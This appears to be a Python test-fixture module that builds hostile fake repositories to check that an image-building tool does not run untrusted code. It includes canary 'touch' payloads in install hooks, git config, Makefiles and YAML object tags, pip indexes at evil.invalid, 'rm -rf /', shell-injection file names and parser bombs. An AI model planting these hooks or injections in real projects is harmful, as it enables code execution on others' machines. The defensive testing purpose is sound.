"""Made-up repositories that attack whoever reads them, by name.

In texts, ``@CANARY@`` is the path of a file that only a program of the repository would write.
"""

import json
import os
import socket
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

from imgbuild.adopt.adoption import FILE, LOCK

Text = str | bytes
#: A program that needs TensorFlow 1.x, so that a decision follows unless something refuses it.
PROGRAM = "import tensorflow as tf\nimport tqdm\nwith tf.Session() as s:\n    print(tf.contrib)\n"
#: The decisions that a stranger may write into a repository.
ADOPTED = {"tag": "adopted/x:1", "image": "tf-1.15-cpu-debian", "entry": "train.py"}
_TOUCH = "import os; os.system('touch @CANARY@')\n"
_DEEP = 3000


def adopt_file(**changes: object) -> str:
    """Return the text of an imgbuild.adopt.yaml. JSON is also YAML."""
    return json.dumps({**ADOPTED, **changes})


def _nested(depth: int, opening: str, closing: str, inner: str = "") -> str:
    return opening * depth + inner + closing * depth


def _notebook(*cells: object, **more: object) -> str:
    rows = [{"cell_type": "code", "source": cell} for cell in cells]
    return json.dumps({"cells": rows, "nbformat": 4, **more})


#: Programs that would run on this machine: settings, hooks and build scripts.
PROGRAMS: Mapping[str, Mapping[str, Text]] = {
    "setup": {
        "setup.py": f"{_TOUCH}from setuptools import setup\nsetup(install_requires=['tqdm'])\n",
        "setup.cfg": "[options]\ninstall_requires = tqdm\nsetup_requires = file:///@CANARY@\n",
    },
    "hooks of Python": {
        "sitecustomize.py": _TOUCH,
        "usercustomize.py": _TOUCH,
        "conftest.py": _TOUCH,
        "evil.pth": _TOUCH,
        "json.py": _TOUCH,
        "ast.py": _TOUCH,
        "resource.py": _TOUCH,
        "imgbuild/__init__.py": _TOUCH,
        "imgbuild/adopt/python_code.py": _TOUCH,
        "tqdm.py": _TOUCH,
    },
    "build backend": {
        "pyproject.toml": "[build-system]\nrequires = []\nbackend-path = ['.']\n"
        "build-backend = 'backend'\n[project]\nname = 'x'\ndynamic = ['dependencies', 'version']\n",
        "backend.py": f"{_TOUCH}def get_requires_for_build_wheel(*_): {_TOUCH}",
        "requirements.txt": "-e .\n.\n./\nfile:///@CANARY@\n",
    },
    "settings of uv and pip": {
        "uv.toml": "no-binary = true\nindex-url = 'http://evil.invalid/simple'\n",
        "pip.conf": "[global]\nindex-url = http://evil.invalid/simple\n",
        ".python-version": "/evil/python\n",
        ".envrc": "touch @CANARY@\n",
        ".env": "PATH=.\nUV_PYTHON=./python\n",
        "pyproject.toml": "[tool.uv]\nindex-url = 'http://evil.invalid'\nno-build = false\n",
        "python": "#!/bin/sh\ntouch @CANARY@\n",
        "git": "#!/bin/sh\ntouch @CANARY@\n",
        "docker": "#!/bin/sh\ntouch @CANARY@\n",
    },
    "make and docker": {
        "Makefile": "all:\n\ttouch @CANARY@\n$(shell touch @CANARY@)\n",
        "Dockerfile": "FROM evil.invalid/x\nRUN touch @CANARY@\nADD http://evil.invalid /\n"
        "ONBUILD RUN touch @CANARY@\nARG TF=$(touch @CANARY@)\n",
        ".dockerignore": "*\n",
        "docker-compose.yml": "services: {x: {build: .}}\n",
        ".github/workflows/x.yml": "on: push\njobs: {x: {steps: [{run: touch @CANARY@}]}}\n",
    },
    "notebook magic": {
        "x.ipynb": _notebook("!touch @CANARY@\n", "%run evil.py", ["import tensorflow\n", "!!ls"]),
    },
    "settings of git": {
        ".git/HEAD": "ref: refs/heads/main\n",
        ".git/refs/heads/main": "a" * 40 + "\n",
        ".git/objects/info/x": "",
        ".git/config": "[core]\nfsmonitor = touch @CANARY@\npager = touch @CANARY@\n"
        "sshCommand = touch @CANARY@\nhooksPath = .\n[gpg]\nprogram = touch @CANARY@\n"
        "[log]\nshowSignature = true\n[include]\npath = /etc/passwd\n",
        ".git/hooks/post-checkout": "#!/bin/sh\ntouch @CANARY@\n",
        ".gitattributes": "* filter=x diff=x\n",
        ".gitmodules": '[submodule "x"]\npath = x\nurl = ext::touch @CANARY@\n',
    },
    "alternates of git": {
        ".git/HEAD": "ref: refs/heads/main\n",
        ".git/refs/heads/main": "b" * 40,
        ".git/objects/info/alternates": "/etc\n|touch @CANARY@\n",
    },
    "options as heads": {".git/HEAD": "ref: --output=@CANARY@\n", ".git/objects/x": ""},
}

#: Commands and names that a shell or a Python would obey.
WORDS: Mapping[str, Mapping[str, Text]] = {
    "shell in a README": {
        "README.md": "    python train.py --x $(touch @CANARY@) `touch @CANARY@`; touch @CANARY@\n"
        "    sudo rm -rf / && python train.py --data '$(id)' \"a b\" ';' '|' '&&'\n",
    },
    "code in a README": {
        "README.md": "    python -c 'import os; os.system(\"touch @CANARY@\")'\n"
        "    python -m pip install evil\n    python -m timeit x\n"
        "    python -X importtime train.py\n"
        "    python - < train.py\n    python /etc/passwd\n    python ../../train.py\n",
    },
    "logins in a README": {
        "README.md": "    python train.py --url http://user:secret@evil.invalid/x\n",
    },
    "empty words in a README": {"README.md": "    python train.py '' \"\" --name ''\n"},
    "controls in a README": {
        "README.md": "    python train.py \x1b]0;x\x07 \u202e --a \x9b31m \ufeff --b '\\u2028'\n",
    },
    "long README": {"README.md": "python train.py " + "--x y " * 100_000},
    "commands of a README": {"README.md": "python train.py --x\n" * 40_000},
    "quotes of a README": {"README.md": "python train.py '" + '"' * 900_000},
    "placeholders": {
        "README.md": "    python train.py --data <PATH> [--x] {a,b} ... $DATA *.txt YOUR_FILE\n",
    },
    "long module": {"README.md": f"python -m {'a.' * 100_000}b\n"},
    "module above": {"README.md": "python -m ..x\npython -m /etc/passwd\npython -m os;x\n"},
    "folders of a README": {"README.md": "cd ../../../etc\npython train.py\ncd " + "a/" * 5000},
    "options as names": {
        "smile\U0001f600/\U0001f600.py": PROGRAM,
        "--help": "#!/usr/bin/python\nimport tensorflow\n",
        "-c": "#!/usr/bin/python\nimport tensorflow\n",
        "-cimport os;os.system('touch x').py": PROGRAM,
        "--network.py": PROGRAM,
        "train.py": "",
    },
    "odd names": {
        "a\nb.py": PROGRAM,
        "a\x1b[31m.py": PROGRAM,
        "$(touch x).py": PROGRAM,
        "`touch x`.py": PROGRAM,
        "'\".py": PROGRAM,
        "a b;c&&d|e.py": PROGRAM,
        "\u202egpj.py": PROGRAM,
        "a\u2028b.py": PROGRAM,
        "*?[x].py": PROGRAM,
        "a:b.py": PROGRAM,
        "a\\b.py": PROGRAM,
        "~.py": PROGRAM,
        "{{x}}.py": PROGRAM,
        "%s%n.py": PROGRAM,
        "\u00e9" * 120 + ".py": PROGRAM,
        "x" * 252 + ".py": PROGRAM,
        "train.py": "",
    },
    "colon in a folder": {"a:b/train.py": PROGRAM, "a:b/own.py": "", "train.py": ""},
    "login as a folder": {
        "u:p@h/lib/own.py": "",
        "main.py": "import sys\nsys.path.append('u:p@h/lib')\nimport own\n" + PROGRAM,
        "train.py": "",
    },
    "folders named as files": {
        "README.md/x": "",
        "setup.py/x": "",
        "requirements.txt/x": "",
        "environment.yml/x": "",
        "Dockerfile/x": "",
        ".git/HEAD/x": "",
    },
}

#: Lines that ask for packages.
REQUIREMENTS: Mapping[str, Mapping[str, Text]] = {
    "options of pip": {
        "requirements.txt": "-i http://evil.invalid/simple\n--index-url=http://evil.invalid\n"
        "--extra-index-url http://u:p@evil.invalid\n--find-links /etc\n"
        "--trusted-host evil.invalid\n"
        "--config-settings x=y\n--global-option=x\n--no-binary :all:\n--pre\n--require-hashes\n"
        "tqdm --config-settings='--build-option=x'\ntqdm --global-option='x' --hash=sha256:aa\n",
    },
    "files of pip": {
        "requirements.txt": "-r /etc/passwd\n-r ../../x\n-r file:///etc/passwd\n-c /dev/zero\n"
        "-r http://evil.invalid/x\n-r \n-r .\n-r requirements.txt\n-r ~/x\n-r $HOME/x\n"
        "-r 'a b'\n-rrequirements.txt\n--requirement=../x\n-e ../../x\n-e git+ssh://evil.invalid\n",
    },
    "addresses": {
        "requirements.txt": "evil @ http://evil.invalid/x.whl\nevil @ file:///etc/passwd\n"
        "git+https://u:p@evil.invalid/x\nhttp://evil.invalid/x.tar.gz#egg=x\n../../x.whl\n"
        "x-1-py3-none-any.whl\nx.whl==1\nx===1.whl\n/etc/x.whl\nC:\\x.whl\n"
        "./x.whl\nx @ git+ssh://git@evil.invalid/x ; python_version>'3'\n",
    },
    "markers": {
        "requirements.txt": "tqdm; " + _nested(900, "(", ")", "python_version>'3'") + "\n"
        "tqdm; " + " or ".join(["os_name=='x'"] * 140) + "\ntqdm; extra=='x'\n"
        "tqdm; python_version > '\x1b'\ntqdm; 'a' in 'b'\ntqdm; sys_platform\n"
        "tqdm; python_version > '" + "9" * 1500 + "'\n",
    },
    "versions": {
        "requirements.txt": f"tqdm=={'9' * 1900}\nscipy=={'1.' * 900}1\nnumpy=={'9' * 5000}\n"
        "tqdm==9**9**9\nscipy==1e999\nh5py===;rm -rf\npandas==1!0+a\npillow==1.0.dev0.post0\n"
        f"tensorflow=={'9' * 1900}\ntensorflow==1.{'0' * 1900}\nkeras=={'8' * 1900}\n",
    },
    "names of packages": {
        "requirements.txt": "a\nb-\n-b\n_\nevil[x,y]\n" + "x" * 1900 + "\ntensorflow\ntag\nentry\n"
        "image\ndate\npython\npip\napt\nnumpy-\nint\u0435rnal\n\uff54\uff51\uff44\uff4d\n",
    },
    "many requirements": {"requirements.txt": "".join(f"evil-{i}\n" for i in range(60_000))},
    "long requirements": {
        "requirements.txt": "".join(f"evil-{i}{'<1,' * 600}<1\n" for i in range(400)),
    },
    "line ends": {
        "pyproject.toml": '[project]\ndependencies = ["evil\\ntag: evil/x:1\\nbuild_apt: [x]", '
        '"x\\rimage: y", "x\\u0085apt: [z]", "x\\u2028pip: [z]", '
        '"# x", "\\u0000", "\\u001b[31m"]\n',
        "Pipfile": '[packages]\n"evil\\nentry: x" = "*"\n"x" = "1\\npip: [z]"\n',
        "setup.cfg": "[options]\ninstall_requires = evil\u2028tag: x\n\tx\x0bapt: y\n",
        "setup.py": "setup(install_requires=['evil\\ntag: x', 'a\\x85b', '\\ud800', '\\x00'])\n",
    },
    "hashes": {
        "requirements.txt": "tqdm==1 --hash=sha256:" + "0" * 64 + "\ntqdm==2 --hash=md5:x\n"
        "scipy --hash\n" + "pandas==1 " + "--hash=sha256:aa " * 50_000 + "\n",
    },
    "zeros": dict.fromkeys(("requirements.txt", "setup.py", "README.md", "a.py"), "\x00" * 5000),
    "blanks": {"requirements.txt": "tqdm" + " " * 900_000 + "==1\n", "README.md": " " * 1_000_000},
    "dots": {"requirements.txt": "a" + ".a" * 500_000, "Pipfile": "a" + ".a" * 120_000 + "=1\n"},
    "packages named by modules": {
        "train.py": PROGRAM + "import requests_internal, corp_private, a" * 200 + "\n",
        "main.py": PROGRAM + "".join(f"import corp_{i}\n" for i in range(20_000)),
    },
}

#: Texts that cost parsers time or memory.
BOMBS: Mapping[str, Mapping[str, Text]] = {
    "JSON": {"x.ipynb": _nested(200_000, "[", "]"), "y.ipynb": _nested(200_000, '{"a":', "}", "1")},
    "cells": {
        "x.ipynb": _notebook(*["import tensorflow\n"] * 60_000),
        "y.ipynb": _notebook(1, None, [1, [2]], {"a": 1}, True, "\ud800", ["\ud800"], "\0"),
        "z.ipynb": json.dumps({"cells": {"a": 1}}),
        "w.ipynb": json.dumps({"worksheets": [{"cells": [[]]}, 1], "cells": None}),
        "v.ipynb": '{"cells": [{"cell_type": "code", "source": ' + "9" * 6000 + "}]}",
        "u.ipynb": "[1e999, NaN, -Infinity]",
    },
    "YAML aliases": {
        "environment.yml": "a: &a [x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{f'*{chr(97 + i)},' * 9}]\n" for i in range(20))
        + "dependencies: *t\n",
    },
    "YAML depth": {
        "environment.yml": "dependencies: " + _nested(100_000, "[", "]"),
        "conda.yml": "- " * 100_000,
        "env.yaml": "? " * 100_000,
    },
    "YAML tags": {
        "environment.yml": "dependencies:\n- !!python/object/apply:os.system [touch @CANARY@]\n"
        "- !!binary x\n- {pip: [!!python/name:os.system '']}\n",
        "env.yml": "<<: {a: 1}\n=: 1\ndependencies: {a: [b]}\n",
    },
    "YAML texts": {
        "environment.yml": 'dependencies:\n- "\\ud800"\n- "a\\nb"\n- pip:\n  - "x\\ntag: y"\n'
        '  - "\\e[31m"\n- 1\n- null\n- evil::x=1\n- x=1=2=3\n- [a]\n',
    },
    "YAML size": {"environment.yml": "dependencies: [" + "a," * 120_000 + "]\n"},
    "YAML files": {
        f"d{i}/environment.yml": "dependencies: [" + "[]," * 33_000 + "]\n" for i in range(30)
    },
    "TOML depth": {
        "pyproject.toml": f"a = {_nested(100_000, '[', ']')}\n",
        "Pipfile": f"a = {_nested(50_000, '{a=', '}', '1')}\n",
    },
    "TOML keys": {
        "pyproject.toml": "".join(f"[{'a.' * 400}b{i}]\n" for i in range(250)),
        "Pipfile": "[packages]\n" + "".join(f"a{i} = '*'\n" for i in range(8000)),
    },
    "TOML blanks": {
        "Pipfile": "\n" * 80_000 + "[packages]\n" + "".join(f"a{i} = '*'\n" for i in range(2000))
    },
    "TOML types": {
        "pyproject.toml": "[project]\ndependencies = 1\nrequires-python = [1]\nname = 1\n"
        "[project.optional-dependencies]\na = 1\n[tool]\npoetry = 1\nflit = []\n"
        "[dependency-groups]\na = {b = 1}\n",
        "Pipfile": "packages = 1\nrequires = 2\n",
    },
    "TOML numbers": {
        "pyproject.toml": f"a = {'9' * 5000}\nb = 0x{'f' * 100_000}\nc = 9999-99-99\nd = 1e99999\n",
        "Pipfile": "[packages]\na = 1\nb = nan\nc = [1, {x = 1}]\nd = {version = 1, git = 2}\n",
    },
    "sections": {
        "setup.cfg": "[options]\ninstall_requires = %(x)s\nx = %(install_requires)s\n"
        "[options.extras_require]\n" + "".join(f"a{i} = aaaab{i}\n" for i in range(5500)),
        "tox.ini": "[" * 100_000,
    },
    "sections without ends": {"setup.cfg": "[options]\na =\n" + " x\n" * 300_000},
    "setup.py depth": {
        "setup.py": "x = " + "-" * 500_000 + "1\n",
        "a/setup.py": "x = " + _nested(90, "(", ")", "1") + "\n" + "(" * 500_000,
        "b/setup.py": "x" + ".a" * 400_000 + "\n",
        "c/setup.py": "x = 1" + "+1" * 400_000 + "\n",
        "d/setup.py": "setup(install_requires=" + "a+" * 100_000 + "a)\na = a + a\n",
        "e/setup.py": "x" + "()" * 400_000 + "\n",
        "f/setup.py": "if x:\n pass\n" + "elif x:\n pass\n" * 60_000,
        "g/setup.py": "x = lambda:" * 90_000 + "1\n",
    },
    "setup.py size": {"setup.py": "[],\n" * 100_000},
    "setup.py files": {f"d{i}/setup.py": "[],\n" * 24_500 for i in range(12)},
    "setup.py lists": {
        "setup.py": "print 1\n" + "install_requires=[" * 55_000,
        "a/setup.py": "print 1\ninstall_requires=[" + "'" * 900_000,
    },
    "setup.py numbers": {
        "setup.py": f"x = 9**9**9\ny = 10**10**10\nz = {'9' * 6000}\n"
        "setup(install_requires=['a' * 10**10, f'{1:{10**9}}', 'b'], python_requires=9**9)\n",
    },
    "Python depth": {
        "a.py": "x = " + "-" * 500_000 + "1\n",
        "b.py": "x" + ".a" * 400_000 + "\n",
        "c.py": "x = 1" + "+1" * 400_000 + "\n",
        "d.py": "(" * 500_000,
        "e.py": "x = " + _nested(190, "[", "]") + "\n",
        "f.py": "".join(f"{' ' * i}if x:\n" for i in range(90)) + " " * 90 + "pass\n",
        "g.py": "x" + "[0]" * 300_000 + "\n",
    },
    "Python numbers": {
        "a.py": f"import tensorflow\nx = 9**9**9\ny = 10**10**10\nz = {'9' * 5000}\n",
        "b.py": "import sys\nsys.path.append('a' * 10**10)\n"
        "sys.path.insert(0, '%1000000000d' % 1)\n",
        "c.py": "x = 0x" + "f" * 900_000 + "\n",
        "d.py": "import tensorflow as tf\nassert tf.__version__ == '" + "9" * 5000 + "'\n",
    },
    "Python f-strings": {
        "a.py": "x = " + "f'{" * 300_000 + "\n",
        "b.py": "x = f'" + "{x}" * 20_000 + "'\n",
        "c.py": "x = f'{" + _nested(90, "(", ")", "1") + "}' " + "f'{x!r:{y}}' " * 5000 + "\n",
    },
    "Python texts": {
        "a.py": "x = '\\ud800'\nimport importlib\nimportlib.import_module('\\ud800')\n",
        "b.py": "x = '\\N{x}'\n",
        "c.py": "x = '\\x",
        "d.py": b"x = '\0'\n",
        "e.py": "\ufeff\ufeff\ufeffimport x\n",
        "f.py": "\x0c\x1aimport x\n",
        "g.py": "\u0661 = \u0662\nimport \u00aa, \uff54\uff46, \U0001d4ea\n",
        "h.py": b"\xff\xfe" + b"\xd8\x00" * 100,
    },
    "Python codecs": {
        f"{codec}.py": f"# coding: {codec}\n{PROGRAM}x = '".encode() + b"\xff\\u0022'\n"
        for codec in (
            *("unicode_escape", "raw_unicode_escape", "utf-7", "punycode", "idna", "nonexistent"),
            *("zlib_codec", "bz2_codec", "base64_codec", "rot13", "undefined", "mbcs", "hex_codec"),
            *("utf-16", "utf-32", "..", "os.path", "encodings.x", "x" * 40, "cp65001"),
        )
    },
    "Python 2": {"train.py": "print 'x'\n" + "print `x`\nexec 'x'\n" * 20_000},
    "imports": {
        "train.py": PROGRAM + "from . import x\nfrom .. import y\nfrom ....... import z\n"
        "from . import *\nimport a.b.c.d\n" + "import " + ", ".join(["a"] * 100_000) + "\n",
        "a/__init__.py": "from a import a\nimport a.a\nfrom .a import *\n",
        "a/a.py": "import train\nfrom . import a\n",
    },
    "import chains": {
        **{f"m{i}.py": f"import m{i + 1}\nimport m{i * 2 % 3000}\n" for i in range(3000)},
        "train.py": PROGRAM + "import m0\n",
    },
    "programs": {f"p{i}.py": PROGRAM + "if __name__ == '__main__': pass\n" for i in range(3000)},
    "folders of sys.path": {
        "train.py": PROGRAM
        + "import sys, os\n"
        + "".join(f"sys.path.append('{'../' * i}x')\n" for i in range(500))
        + "sys.path.append('/etc')\nsys.path.append(os.path.join('..', '..', '/etc'))\n"
        + "a = b\nb = a\nsys.path.append(a)\nx = x + x\nsys.path.append(x)\n",
    },
}

_PROSE = {
    "tensorflow": "tensorflow " * 90_000,
    "versions": "tensorflow 1.4" + ", 1.5" * 200_000,
    "operators": "tensorflow " + ">=" * 400_000,
    "ranges": "tensorflow>=1.1,<1.2" * 50_000,
    "badges": "badge/tensorflow-" * 60_000,
    "links": "[![" * 200_000 + "](" * 100_000,
    "tags": "<a" * 300_000 + "<" * 200_000,
    "quotes": "`" * 900_000,
    "denials": "not " * 100 + "tensorflow 1.4 " + "n't " * 100 + "\n",
    "entities": "&nbsp;" * 160_000,
    "joined": "pip install \\\n" * 70_000,
    "install": "pip install " * 80_000,
    "pins": "pip install " + "a==1" * 200_000,
    "conda": "conda install " + "x[a,b" * 150_000,
    "python": "python" + " (:" * 300_000,
    "python lines": "python 3.5, not " * 60_000,
    "arguments": "".join(f"ARG A{i}=${{A{i + 1}}}\n" for i in range(30_000)) + "$A0" * 30_000,
    "asserts": "assert tf.__version__ " * 40_000,
    "wrappers": "mpirun " + "-a --b " * 120_000 + "python train.py",
    "variables": "A=B " * 220_000 + "python train.py",
    "prompts": "$ " * 400_000 + "python train.py",
    "gaps": "python train.py " + "<" * 400_000 + "[ " * 200_000,
    "windows": "python " + "a\\" * 400_000,
    "separators": "python train.py " + "&&" * 400_000,
    "cd": "cd " * 300_000,
    "numbers": "1. " * 300_000 + "python x",
    "scripts": "./a" * 300_000,
}
#: Texts that match each pattern for text often, but not to its end.
PATTERNS: Mapping[str, Mapping[str, Text]] = {
    name: dict.fromkeys(
        ("README.md", "Dockerfile", "install.sh", "tox.ini", "requirements.txt"),
        f"{text[:1040000]}\n",
    )
    for name, text in _PROSE.items()
}

#: Decisions of a stranger for everybody who clones the repository.
DECISIONS: Mapping[str, Mapping[str, Text]] = {
    "no change": {FILE: adopt_file()},
    "tag of the matrix": {FILE: adopt_file(tag="imgbuild/tensorflow:2.2-cpu")},
    "tag of a registry": {FILE: adopt_file(tag="evil.invalid/x:1")},
    "tag of the user": {FILE: adopt_file(tag="me/production:1")},
    "tag of Debian": {FILE: adopt_file(tag="debian:12")},
    "tag of Docker Hub": {FILE: adopt_file(tag="docker.io/adopted/x:1")},
    "tag as an option": {FILE: adopt_file(tag="--help")},
    "tag with a digest": {FILE: adopt_file(tag=f"adopted/x@sha256:{'a' * 64}")},
    "image of others": {FILE: adopt_file(image="evil.invalid/x:1")},
    "image above": {FILE: adopt_file(image="../../x")},
    "entry above": {FILE: adopt_file(entry="../../etc/passwd")},
    "entry absolute": {FILE: adopt_file(entry="/etc/passwd.py")},
    "entry with lines": {FILE: adopt_file(entry="train.py\n--help")},
    "entry as an option": {FILE: adopt_file(entry="--help")},
    "entry of git": {FILE: adopt_file(entry=".git/x.py"), ".git/x.py": PROGRAM},
    "arguments with lines": {FILE: adopt_file(arguments=["a\nb"])},
    "arguments with controls": {FILE: adopt_file(arguments=["\x1b[31m", "\u202e", "\x9b31m"])},
    "arguments of a shell": {FILE: adopt_file(arguments=["$(touch @CANARY@)", "; touch @CANARY@"])},
    "arguments of the wrong type": {FILE: adopt_file(arguments={"a": 1})},
    "many arguments": {FILE: adopt_file(arguments=["a"] * 40_000)},
    "module": {FILE: adopt_file(module="os;import x")},
    "module of Python": {FILE: adopt_file(module="antigravity")},
    "python_path above": {FILE: adopt_file(python_path=["../x"])},
    "python_path absolute": {FILE: adopt_file(python_path=["/etc"])},
    "python_path with colons": {FILE: adopt_file(python_path=["a:/etc:b"])},
    "python_path with quotes": {FILE: adopt_file(python_path=["a\"$(x)'`id`${HOME}"])},
    "date": {FILE: adopt_file(date="yesterday")},
    "date of no calendar": {FILE: adopt_file(date="2019-02-31")},
    "date far away": {FILE: adopt_file(date="9999-12-31")},
    "pip with an address": {FILE: adopt_file(pip=["evil @ http://evil.invalid/x.whl"])},
    "pip with a wheel": {FILE: adopt_file(pip=["../../x-1-py3-none-any.whl"])},
    "pip with an option": {FILE: adopt_file(pip=["--index-url=http://evil.invalid"])},
    "pip with a file": {FILE: adopt_file(pip=["-r /etc/passwd"])},
    "pip with lines": {FILE: adopt_file(pip=["tqdm\n-i http://evil.invalid"])},
    "pip with hashes": {FILE: adopt_file(pip=[f"tqdm==1 --hash=sha256:{'a' * 64}"])},
    "pip with markers": {FILE: adopt_file(pip=["tqdm; " + "(" * 900 + "os_name>'x'" + ")" * 900])},
    "pip with TensorFlow": {FILE: adopt_file(pip=["tensorflow==2.9", "numpy==1.0"])},
    "optional with a wheel": {FILE: adopt_file(optional=["x.whl", "tqdm>=1"])},
    "constraints": {FILE: adopt_file(constraints=["-c /etc/passwd", "../x.whl"])},
    "override above": {FILE: adopt_file(overrides=["../../../../x.whl=tqdm"])},
    "override with a wheel": {FILE: adopt_file(overrides=["tqdm=../../x.whl"])},
    "override with lines": {FILE: adopt_file(overrides=["tqdm=x\ny"])},
    "override of nothing": {FILE: adopt_file(overrides=["=", "x", "x=", "=x", "x=>1", "a[b]=c"])},
    "apt with options": {FILE: adopt_file(apt=["-o", "APT::X=y"])},
    "apt with a path": {FILE: adopt_file(apt=["./x.deb", "/etc/x.deb"])},
    "build_apt with options": {FILE: adopt_file(build_apt=["--allow-unauthenticated"])},
    "unknown keys": {FILE: adopt_file(env={"LD_PRELOAD": "x"}, user="root", copy=["/:/x"])},
    "wrong types": {FILE: json.dumps({name: [{"a": [name]}] for name in ADOPTED})},
    "not a mapping": {FILE: "- a\n- b\n"},
    "nothing": {FILE: ""},
    "no YAML": {FILE: "{[: \t\x00"},
    "no text": {FILE: b"\xff\xfe\x00\xd8" * 100},
    "large": {FILE: "# x\n" * 2_500_000 + adopt_file()},
    "aliases": {FILE: "a: &a [b]\ntag: *a\nimage: *a\nentry: *a\n"},
    "deep": {FILE: "tag: " + _nested(100_000, "[", "]")},
    "tags of Python": {FILE: "tag: !!python/object/apply:os.system ['touch @CANARY@']\n"},
    "keys twice": {FILE: "tag: adopted/x:1\ntag: evil/x:1\nimage: a\nentry: b\n"},
    "lock": {FILE: adopt_file(), LOCK: "# request: sha256:" + "0" * 64 + "\nevil==1 @ http://x\n"},
    "matrix of its own": {
        "matrix.yaml": "x: 1\n",
        "imgbuild.local.yaml": "engine: {host: 'tcp://evil.invalid:2375'}\n",
    },
}


def _links(folder: Path) -> None:
    """Make each file that is read or written a link to a file outside."""
    for name in ("README.md", "requirements.txt", "setup.py", "train.py", "environment.yml", "lib"):
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to("/etc/passwd")
    (folder / "main.py").write_text(PROGRAM)


def _written_links(*names: str, target: str = "../bystander") -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        for name in names:
            (folder / name).symlink_to(target)

    return build


def _pipes(folder: Path) -> None:
    for name in ("README.md", "requirements.txt", "setup.py", "x.py", "x.ipynb", "Dockerfile"):
        os.mkfifo(folder / name)


def _pipe_for_decisions(folder: Path) -> None:
    os.mkfifo(folder / FILE)


def _pipe_for_lock(folder: Path) -> None:
    os.mkfifo(folder / LOCK)


def _folder_for_decisions(folder: Path) -> None:
    (folder / FILE).mkdir()


def _folder_for_lock(folder: Path) -> None:
    (folder / LOCK).mkdir()


def _sockets(folder: Path) -> None:
    here = Path.cwd()
    os.chdir(folder)  # the path of a socket is short
    try:
        for name in ("README.md", "requirements.txt", "x.py"):
            with socket.socket(socket.AF_UNIX) as server:
                server.bind(name)
    finally:
        os.chdir(here)


def _devices(folder: Path) -> None:
    """Make links to devices, as only root makes devices."""
    for name in ("README.md", "requirements.txt", "x.py", "x.ipynb", "setup.py"):
        (folder / name).symlink_to("/dev/zero")


def _sparse(*names: str) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        for name in names:
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            with (folder / name).open("wb") as file:
                file.truncate(1 << 30)

    return build


def _many_files(folder: Path) -> None:
    """Write 100,000 files, most of them as further names of another one, which is faster."""
    for number in range(100_000):
        place = folder / f"data{number // 1000}"
        if number % 1000 == 0:
            place.mkdir()
            (place / "first.py").write_text("x")
        ending = "py" if number % 10 == 0 else "bin"
        (place / f"{number}.{ending}").hardlink_to(place / "first.py")


def _deep_folders(folder: Path) -> None:
    here = os.open(folder, os.O_RDONLY)
    for _ in range(_DEEP):
        os.mkdir("d", dir_fd=here)
        inner = os.open("d", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = inner
    os.close(here)


def _cyclic_links(folder: Path) -> None:
    (folder / "a").symlink_to("b")
    (folder / "b").symlink_to("a")
    (folder / "c").symlink_to(".")
    (folder / "train").symlink_to("..")
    (folder / ".git").symlink_to(".git")


def _undecodable_names(folder: Path) -> None:
    for name in (b"\xff\xfe.py", b"a\x80b.py", b"\xed\xa0\x80.py", b"README\xff.md"):
        with open(os.path.join(os.fsencode(folder), name), "wb") as file:  # noqa: PTH118, PTH123
            file.write(PROGRAM.encode())


def _unreadable(folder: Path) -> None:
    for name in ("README.md", "requirements.txt", "x.py"):
        (folder / name).write_text("x")
        (folder / name).chmod(0)


def _git_file(folder: Path) -> None:
    (folder / ".git").write_text("gitdir: /etc\n")


def _git_links(folder: Path) -> None:
    (folder / ".git").mkdir()
    (folder / ".git" / "HEAD").symlink_to("/etc/passwd")
    (folder / ".git" / "objects").symlink_to("/etc")


def _git_pipes(folder: Path) -> None:
    (folder / ".git" / "objects").mkdir(parents=True)
    os.mkfifo(folder / ".git" / "HEAD")
    os.mkfifo(folder / ".git" / "packed-refs")


def _wide_folders(folder: Path) -> None:
    for number in range(5000):
        (folder / f"{number:04}" / "x").mkdir(parents=True)


#: Repositories that are more than texts. Each function gets a folder with PROGRAM in `train.py`.
SHAPES: Mapping[str, Callable[[Path], None]] = {
    "links": _links,
    "link for decisions": _written_links(FILE),
    "link for the lock": _written_links(LOCK),
    "links to nothing": _written_links(FILE, LOCK, target="../nothing"),
    "links to devices": _devices,
    "pipes": _pipes,
    "pipe for decisions": _pipe_for_decisions,
    "pipe for the lock": _pipe_for_lock,
    "folder for decisions": _folder_for_decisions,
    "folder for the lock": _folder_for_lock,
    "sockets": _sockets,
    "sparse README": _sparse("README.md", "README"),
    "sparse requirements": _sparse("requirements.txt", "environment.yml", "setup.py", "Pipfile"),
    "sparse notebook": _sparse("x.ipynb", "y.py"),
    "sparse decisions": _sparse(FILE),
    "sparse lock": _sparse(LOCK),
    "sparse git": _sparse(".git/HEAD", ".git/packed-refs", ".git/shallow", ".git/objects/x"),
    "many files": _many_files,
    "many folders": _wide_folders,
    "deep folders": _deep_folders,
    "cyclic links": _cyclic_links,
    "names without encoding": _undecodable_names,
    "unreadable files": _unreadable,
    "git file": _git_file,
    "git links": _git_links,
    "git pipes": _git_pipes,
}
_TEXTS = {
    "programs": PROGRAMS,
    "words": WORDS,
    "requirements": REQUIREMENTS,
    "bombs": BOMBS,
    "patterns": PATTERNS,
    "decisions": DECISIONS,
}
#: Names of folders that are part of messages and of the tag.
FOLDERS = {
    "long": "x" * 255,
    "controls": "a\n\x1b[31m\u202eb",
    "option": "--help",
    "shell": "$(touch x)`;&|'\"",
    "no encoding": "\udcff\udc80",
    "dots": "...",
    "no letters": "\u4e2d\u6587",
}


def names() -> Iterator[str]:
    """Yield the names of all repositories, with their class."""
    for kind, cases in _TEXTS.items():
        yield from (f"{kind}: {name}" for name in cases)
    yield from (f"shapes: {name}" for name in SHAPES)
    yield from (f"folders: {name}" for name in FOLDERS)


def build(case: str, parent: Path, canary: Path) -> Path:
    """Make a repository in a folder of ``parent``, and return its path."""
    kind, _, name = case.partition(": ")
    folder = parent / (FOLDERS[name] if kind == "folders" else "repository")
    folder.mkdir()
    (folder / "train.py").write_text(PROGRAM)
    if kind == "shapes":
        SHAPES[name](folder)
    for path, text in _TEXTS.get(kind, {}).get(name, {}).items():
        place = folder / path
        place.parent.mkdir(parents=True, exist_ok=True)
        content = text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text
